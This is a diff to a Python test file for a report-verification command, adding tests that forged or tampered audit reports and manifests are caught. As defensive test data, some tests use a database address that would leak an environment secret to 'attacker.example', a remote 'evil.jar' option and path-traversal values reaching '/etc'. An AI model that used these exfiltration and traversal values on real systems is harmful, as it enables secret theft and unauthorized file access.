@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import shutil
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -69,8 +71,8 @@ def home(made: Path, tmp_path: Path) -> Path:
     return Path(shutil.copytree(made, tmp_path / "elsewhere" / "deeper"))
 
 
-def verify(home: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
-    code = main(["verify", str(home / "报告"), "--lang", "zh"])
+def verify(home: Path, capsys: pytest.CaptureFixture[str], *more: str) -> tuple[int, str]:
+    code = main(["verify", str(home / "报告"), *more, "--lang", "zh"])
     told = capsys.readouterr()
     return code, told.out + told.err
 
@@ -145,7 +147,7 @@ def test_a_changed_report_is_named(home: Path, capsys: pytest.CaptureFixture[str
 def test_another_version_is_told(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
     change(home, tool_version="0.0.1")
     code, told = verify(home, capsys)
-    assert code == 1
+    assert code == 0, "all comes out the same, so it is proved whatever the version"
     assert "0.0.1" in told
 
 
@@ -178,7 +180,11 @@ def test_a_damaged_manifest(home: Path, damage: dict[str, Any], capsys: pytest.C
 def test_a_self_check_is_verified_too(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     out = tmp_path / "报告"
     main(["self-check", str(WORKBOOK), "--pack", str(home / "我们的规则"), "--as-of", "2026-03-31", "--output", str(out)])
-    assert verify(tmp_path, capsys)[0] == 0
+    capsys.readouterr()
+    code, told = verify(tmp_path, capsys)
+    assert code == 2, "the school's workbook and the rules lie elsewhere"
+    assert "E925" in told
+    assert verify(tmp_path, capsys, "--inputs", str(WORKBOOK), "--inputs", str(home / "我们的规则"))[0] == 0
 
 
 def test_the_manifest_names_no_absolute_path(made: Path) -> None:
@@ -216,3 +222,139 @@ def test_one_run_writes_for_every_audience(home: Path) -> None:
     assert main(["run", str(home / "audit.yaml"), *words, "--lang", "zh"]) == 1
     told = [json.loads(path.read_text("utf-8"))["audit"]["audience"] for path in sorted(home.glob("出*/**/findings.json"))]
     assert sorted(told) == ["bureau", "public", "school"]
+
+
+# ---------------------------------------------------------------- forgeries
+
+
+def said(home: Path) -> dict[str, Any]:
+    content = json.loads((home / "报告" / MANIFEST).read_text(encoding="utf-8"))["auditor_report"]
+    assert isinstance(content, dict)
+    return content
+
+
+def named_too(home: Path, name: str) -> dict[str, Any]:
+    """The manifest's outputs with the file as it now is."""
+    data = (home / "报告" / name).read_bytes()
+    return {**said(home)["outputs"], name: {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}}
+
+
+def test_an_added_file_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (home / "报告" / "补充说明.html").write_text("达标", encoding="utf-8")
+    code, told = verify(home, capsys)
+    assert code == 1
+    assert "补充说明.html（新增）" in told
+
+
+def test_an_added_file_that_the_manifest_names_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (home / "报告" / "补充说明.html").write_text("达标", encoding="utf-8")
+    change(home, outputs=named_too(home, "补充说明.html"))
+    code, told = verify(home, capsys)
+    assert code == 1
+    assert "✗ 清单中有报告不会有的文件" in told
+
+
+def test_a_changed_file_that_the_manifest_names_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Every 未达标 turned into 达标, and the manifest with it."""
+    path = home / "报告" / "findings.json"
+    path.write_text(path.read_text("utf-8").replace('"fail"', '"pass"'), encoding="utf-8")
+    change(home, outputs=named_too(home, "findings.json"))
+    code, told = verify(home, capsys)
+    assert code == 1
+    assert "✗ 重新生成的文件不相同" in told
+
+
+@pytest.mark.parametrize(
+    "outputs", [{}, {"../报告/findings.json": {"sha256": "0" * 64}}, {"/etc/hostname": {"sha256": "0" * 64}}], ids=str
+)
+def test_outputs_that_are_none_of_the_folder(home: Path, outputs: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
+    change(home, outputs=outputs)
+    code, told = verify(home, capsys)
+    assert code == 2
+    assert "E923" in told
+
+
+def test_a_file_that_is_a_link_is_found(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    shutil.move(home / "报告" / "findings.json", home / "findings.json")
+    (home / "报告" / "findings.json").symlink_to(home / "findings.json")
+    assert verify(home, capsys)[0] == 1
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [("audience", "public"), ("packs", {}), ("inputs", {}), ("invented", 1)],
+)
+def test_a_changed_manifest_is_found(home: Path, key: str, value: Any, capsys: pytest.CaptureFixture[str]) -> None:
+    change(home, **{key: value})
+    code, told = verify(home, capsys)
+    assert code == 1
+    assert "✗ 重新生成的清单不相同" in told
+    assert f"    {key}\n" in told
+
+
+def asked(home: Path, **values: Any) -> None:
+    change(home, run={**said(home)["run"], **values})
+
+
+def test_no_address_of_a_manifest_is_asked(
+    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SECRET_OF_THE_CALLER", "hush")
+    address = "postgresql://auditor@${SECRET_OF_THE_CALLER}.attacker.example/records"
+    asked(home, records=[{"sql": address, "tables": [], "name": "", "submitted_by": "file"}])
+    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("something was asked"))
+    code, told = verify(home, capsys)
+    assert code == 2
+    assert "E925" in told
+    assert "hush" not in told
+
+
+def test_a_store_elsewhere_and_its_options_are_not_used(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    store = {"address": "postgresql://auditor@attacker.example/records", "engine": "spark", "options": {"spark.jars": "evil.jar"}}
+    asked(home, records=[], store=store)
+    code, told = verify(home, capsys)
+    assert code == 2
+    assert "postgresql://auditor@attacker.example/records" in told
+    assert "spark.jars=evil.jar" in told
+
+
+@pytest.mark.parametrize("path", ["/etc", "../../../../../../../../etc", "../../elsewhere"])
+@pytest.mark.parametrize("key", ["records", "waivers", "attestations", "mapping", "since", "packs"])
+def test_nothing_beyond_the_reports_surroundings_is_read(
+    home: Path, key: str, path: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    asked(home, **{key: [{"path": path, "submitted_by": "file"}] if key == "records" else [path]})
+    code, told = verify(home, capsys)
+    assert code == 2
+    assert "E925" in told
+
+
+def test_a_link_among_the_records_leads_nowhere(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    outside = tmp_path / "outside.xlsx"
+    shutil.move(home / "记录" / "胡麻小学.xlsx", outside)
+    (home / "记录" / "胡麻小学.xlsx").symlink_to(outside)
+    assert verify(home, capsys)[0] == 2
+    assert verify(home, capsys, "--inputs", str(outside))[0] == 0
+
+
+def test_what_was_packed_otherwise_holds_the_same(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """As by another version of the compression: other bytes, the same contents."""
+    assert main(["run", str(home / "audit.yaml"), "--format", "xlsx", "--lang", "zh"]) == 1
+    path = home / "报告" / "findings.xlsx"
+    with zipfile.ZipFile(path) as old:
+        members = [(member, old.read(member)) for member in old.infolist()]
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as new:
+        for member, data in members:
+            new.writestr(zipfile.ZipInfo(member.filename, member.date_time), data)
+    change(home, outputs=named_too(home, "findings.xlsx"))
+    capsys.readouterr()
+    assert verify(home, capsys)[0] == 0
+
+
+def test_other_contents_by_other_libraries_cannot_be_proved(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = home / "报告" / "findings.json"
+    path.write_text(path.read_text("utf-8") + "\n", encoding="utf-8")
+    change(home, outputs=named_too(home, "findings.json"), libraries={**said(home)["libraries"], "xlsxwriter": "0.0.1"})
+    code, told = verify(home, capsys)
+    assert code == 3
+    assert "xlsxwriter 0.0.1" in told
